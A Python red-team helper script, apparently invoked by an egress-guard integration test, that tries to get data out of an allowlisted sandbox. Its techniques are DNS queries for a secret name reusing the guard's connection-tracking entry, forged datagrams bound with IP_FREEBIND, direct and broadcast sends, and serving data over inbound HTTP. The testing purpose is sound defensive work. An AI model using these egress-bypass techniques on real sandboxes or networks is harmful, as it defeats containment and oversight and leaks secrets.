# Attacks on the egress guard, run inside an allowlisted sandbox by EgressRedTeamIT. Each prints
# one line: "leaked ..." when something got out, "held ..." when the defence held; a bad command
# line exits 2.
#
#   reuse UPSTREAM ALLOWED SECRET   make the guard ask UPSTREAM for ALLOWED, then send a query for
#                                   SECRET to UPSTREAM:53 from every local port, hoping to ride
#                                   on the connection-tracking entry of the guard's own query
#   send ADDRESS PORT udp|tcp       one datagram (broadcast allowed) or one connection to ADDRESS:PORT
#                                   ("::ffff:a.b.c.d" is an IPv4 address on an IPv6 socket)
#   spoof SOURCE PORT               a datagram forged from SOURCE:PORT to a socket of the namespace
#   serve PORT TEXT                 answer one HTTP request on PORT (both families) with TEXT, or
#                                   give up after 15 s: data out through a connection a peer opened
import os
import socket
import struct
import sys


def query(name, qtype=1):
    header = struct.pack('>HHHHHH', int.from_bytes(os.urandom(2), 'big'), 0x0100, 1, 0, 0, 0)
    return header + b''.join(bytes([len(l)]) + l.encode('ascii') for l in name.split('.')) + b'\0' \
        + struct.pack('>HH', qtype, 1)


def ask_guard(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect(('127.0.0.1', 53))
        sock.send(query(name))
        return sock.recv(4096)[3] & 0xF


def reuse(upstream, allowed, secret):
    family = socket.AF_INET6 if ':' in upstream else socket.AF_INET
    with open('/proc/sys/net/ipv4/ip_local_port_range') as f:
        low, high = map(int, f.read().split())
    rcode = ask_guard(allowed)
    message = query(secret)
    passed = 0
    for port in range(low, high + 1):
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            try:
                sock.bind(('::' if family == socket.AF_INET6 else '0.0.0.0', port))
                sock.connect((upstream, 53))
                sock.send(message)
            except OSError:
                continue
            passed += 1
            sock.settimeout(1)
            try:
                answer = sock.recv(4096)
                return 'leaked port %d rcode %d (guard said %d)' % (port, answer[3] & 0xF, rcode)
            except OSError:
                pass
    return 'held guard-rcode %d sent %d' % (rcode, passed)


def spoof(source, port):
    """Sends a datagram that claims to come from SOURCE:PORT (an address that is not this
    namespace's, bound with IP_FREEBIND, which needs no capability) to a local socket connected to
    SOURCE:PORT, as the guard's upstream socket is."""
    family = socket.AF_INET6 if ':' in source else socket.AF_INET
    local = '::1' if family == socket.AF_INET6 else '127.0.0.1'
    with socket.socket(family, socket.SOCK_DGRAM) as victim, socket.socket(family, socket.SOCK_DGRAM) as forger:
        victim.connect((source, int(port)))
        here = victim.getsockname()
        forger.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        try:
            forger.bind((source, int(port)))
        except OSError as e:
            return 'held bind %s' % e
        try:
            forger.sendto(b'forged', here[:2])
        except OSError as e:
            return 'held send %s' % e
        victim.settimeout(1)
        try:
            return 'leaked %s from %s' % (victim.recv(100).decode(), source)
        except OSError as e:
            return 'held recv %s' % e


def send(address, port, protocol):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    kind = socket.SOCK_STREAM if protocol == 'tcp' else socket.SOCK_DGRAM
    with socket.socket(family, kind) as sock:
        sock.settimeout(3)
        try:
            if kind == socket.SOCK_DGRAM:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(b'mino-red-team', (address, int(port)))
                return 'leaked sent'
            sock.connect((address, int(port)))
            sock.sendall(b'GET / HTTP/1.0\r\n\r\n')
            return 'leaked ' + sock.recv(4096).split(b'\r\n\r\n', 1)[-1].decode('ascii', 'replace').strip()
        except OSError as e:
            return 'held %s' % (e.strerror or e)


def serve(port, text):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as listener:
        listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        listener.bind(('::', int(port)))
        listener.listen(4)
        listener.settimeout(15)
        try:
            conn, peer = listener.accept()
        except OSError as e:
            return 'held accept %s' % e
        with conn:
            conn.settimeout(3)
            try:
                conn.recv(4096)
                conn.sendall(b'HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n' + text.encode() + b'\n')
            except OSError as e:
                return 'held reply to %s: %s' % (peer[0], e)
        return 'served %s' % peer[0]


COMMANDS = {'reuse': reuse, 'spoof': spoof, 'send': send, 'serve': serve}


def main(argv):
    if not argv or argv[0] not in COMMANDS:
        sys.stderr.write('usage: %s\n' % ' | '.join(sorted(COMMANDS)))
        return 2
    print(COMMANDS[argv[0]](*argv[1:]))
    return 0


sys.exit(main(sys.argv[1:]))
